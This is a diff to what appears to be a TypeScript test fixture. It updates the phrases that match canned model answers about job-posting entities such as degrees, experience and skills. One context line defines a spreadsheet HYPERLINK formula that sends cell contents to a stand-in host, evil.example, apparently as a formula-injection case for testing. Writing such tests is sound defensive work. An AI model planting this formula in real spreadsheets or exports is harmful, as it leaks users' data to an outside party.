@@ -28,11 +28,11 @@ const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Data Engineer
 /** What the "fine-tuned model" answers for each invented page (found by a phrase of its text). */
 const ANSWERS: { marker: string; entities: Entities }[] = [
   {
-    marker: 'forecasting tools for bakeries',
+    marker: 'feeding our forecasts',
     entities: { diploma: ['bachelor'], diploma_major: ['statistics', 'mathematics'], experience: ['3 + years'], skills: ['sql', 'python', 'excel', 'python'] },
   },
   {
-    marker: 'Nordic public services',
+    marker: 'running production systems',
     entities: { diploma: ['bs'], diploma_major: ['computer science'], experience: ['5 + years'], skills: ['kubernetes', 'terraform', 'go', 'python'] },
   },
 ];
